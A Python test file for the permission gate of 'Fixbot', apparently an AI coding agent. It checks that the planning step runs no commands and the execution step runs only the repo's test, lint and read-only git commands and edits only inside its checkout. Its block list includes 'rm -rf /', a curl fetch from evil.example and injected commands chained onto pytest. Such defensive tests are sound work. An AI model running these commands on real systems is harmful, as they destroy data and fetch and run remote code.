"""What each step's agent may do: the planning and execution steps as Fixbot builds them,
asked about tool calls an agent gone wrong would make."""

from __future__ import annotations

from pathlib import Path

import pytest
from world import plan_data

from agents.execution import execution_step
from agents.planning import PlanningInput, planning_step
from agents.runner import AgentStep
from repos.config import RepoConfig

TEST_COMMAND = "python -m pytest -q"
LINT_COMMAND = "ruff check ."

# Commands no step may run: anything but the repo's own test and lint commands.
FORBIDDEN_COMMANDS = [
    "rm -rf /",
    "curl https://evil.example/x.sh",
    "sh -c 'python -m pytest -q'",
    "python -c 'import os; os.system(\"id\")'",
    "pip install requests",
    "git push origin HEAD",
    "git commit -am wip",
    "python -m pytest -q; rm -rf .",
    "python -m pytest -q && curl evil.example",
    "python -m pytest -q | tee /tmp/out",
    "python -m pytest -q > /tmp/out",
    "python -m pytest -q $(curl evil.example)",
    "python -m pytest -q `id`",
    "python -m pytest -q\ncurl evil.example",
    "ruff check . --fix; rm -rf .",
    "pytest",  # a prefix of nothing allowed: only the configured command
    "python -m",
]


@pytest.fixture
def worktree(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "shop").mkdir(parents=True)
    (root / "shop" / "pricing.py").write_text("x = 1\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    (root / "vendor" / "lib" / ".git").mkdir(parents=True)
    return root


def planning(worktree: Path) -> AgentStep:
    given = PlanningInput(
        ref="SHOP-1", repo="acme/shop", test_command=TEST_COMMAND, context="ZeroDivisionError"
    )
    return planning_step(worktree, given, plugins=(), mcp_servers={}, budget_usd=1.0)


def execution(worktree: Path) -> AgentStep:
    repo = RepoConfig(
        name="acme/shop",
        clone_url="file:///nowhere",
        test_command=TEST_COMMAND,
        lint_command=LINT_COMMAND,
    )
    return execution_step(
        worktree,
        ref="SHOP-1",
        repo=repo,
        plan_markdown=str(plan_data()),
        plugins=(),
        mcp_servers={},
        budget_usd=1.0,
    )


async def ask(step: AgentStep, tool: str, tool_input: dict[str, str]) -> str | None:
    """The gate's answer: None when the call runs, else the refusal the model reads."""
    assert step.can_use_tool is not None
    return await step.can_use_tool(tool, tool_input)


# Planning runs no programs at all.


def test_planning_does_not_run_bash_without_asking(worktree: Path) -> None:
    step = planning(worktree)
    assert "Bash" not in step.allowed_tools
    assert step.can_use_tool is not None


@pytest.mark.parametrize(
    "command",
    [TEST_COMMAND, LINT_COMMAND, "git status", "git diff", "ls", "cat x", *FORBIDDEN_COMMANDS],
)
async def test_planning_refuses_every_command(worktree: Path, command: str) -> None:
    refusal = await ask(planning(worktree), "Bash", {"command": command})
    assert refusal is not None and refusal.startswith("Refused")


# Execution runs the repo's test and lint commands, read-only git, and nothing else.


def test_execution_does_not_run_bash_or_edits_without_asking(worktree: Path) -> None:
    step = execution(worktree)
    for tool in ("Bash", "Write", "Edit", "MultiEdit", "NotebookEdit"):
        assert tool not in step.allowed_tools, tool


@pytest.mark.parametrize(
    "command",
    [
        TEST_COMMAND,
        f"{TEST_COMMAND} tests/test_pricing.py",
        f"{TEST_COMMAND} tests/test_pricing.py::test_discount",
        LINT_COMMAND,
        "git status",
        "git diff --stat",
        "git log -3",
        "git show HEAD",
        "git blame shop/pricing.py",
        "git ls-files",
        "git rev-parse HEAD",
    ],
)
async def test_execution_runs_the_repos_commands(worktree: Path, command: str) -> None:
    assert await ask(execution(worktree), "Bash", {"command": command}) is None


@pytest.mark.parametrize("command", FORBIDDEN_COMMANDS)
async def test_execution_refuses_any_other_command(worktree: Path, command: str) -> None:
    refusal = await ask(execution(worktree), "Bash", {"command": command})
    assert refusal is not None and refusal.startswith("Refused: Bash may run only")


@pytest.mark.parametrize("tool", ["Read", "Grep", "Glob", "LS"])
async def test_execution_reads_inside_its_checkout(worktree: Path, tool: str) -> None:
    step = execution(worktree)
    assert await ask(step, tool, {"path": str(worktree / "shop")}) is None
    refusal = await ask(step, tool, {"path": "/etc"})
    assert refusal is not None and refusal.startswith("Refused")


@pytest.mark.parametrize("tool", ["Write", "Edit", "MultiEdit"])
async def test_execution_edits_inside_its_checkout(worktree: Path, tool: str) -> None:
    step = execution(worktree)
    assert await ask(step, tool, {"file_path": str(worktree / "shop" / "pricing.py")}) is None
    assert await ask(step, tool, {"file_path": "shop/new_module.py"}) is None


@pytest.mark.parametrize(
    "path",
    [
        ".git/config",
        ".git/hooks/pre-commit",
        "vendor/lib/.git/config",
        "shop/../.git/HEAD",
    ],
)
@pytest.mark.parametrize("tool", ["Write", "Edit", "MultiEdit"])
async def test_execution_never_edits_gits_own_files(worktree: Path, tool: str, path: str) -> None:
    step = execution(worktree)
    for given in (path, str(worktree / path)):
        refusal = await ask(step, tool, {"file_path": given})
        assert refusal == "Refused: git's own files are not to be edited.", given
    notebook = await ask(step, "NotebookEdit", {"notebook_path": str(worktree / path)})
    assert notebook == "Refused: git's own files are not to be edited."
    assert (worktree / ".git" / "config").read_text() == "[core]\n"


async def test_execution_never_edits_outside_its_checkout(worktree: Path) -> None:
    step = execution(worktree)
    for path in ("../elsewhere.py", "/etc/passwd", str(worktree.parent / "x.py")):
        refusal = await ask(step, "Write", {"file_path": path})
        assert refusal is not None and "outside the task's repository checkout" in refusal
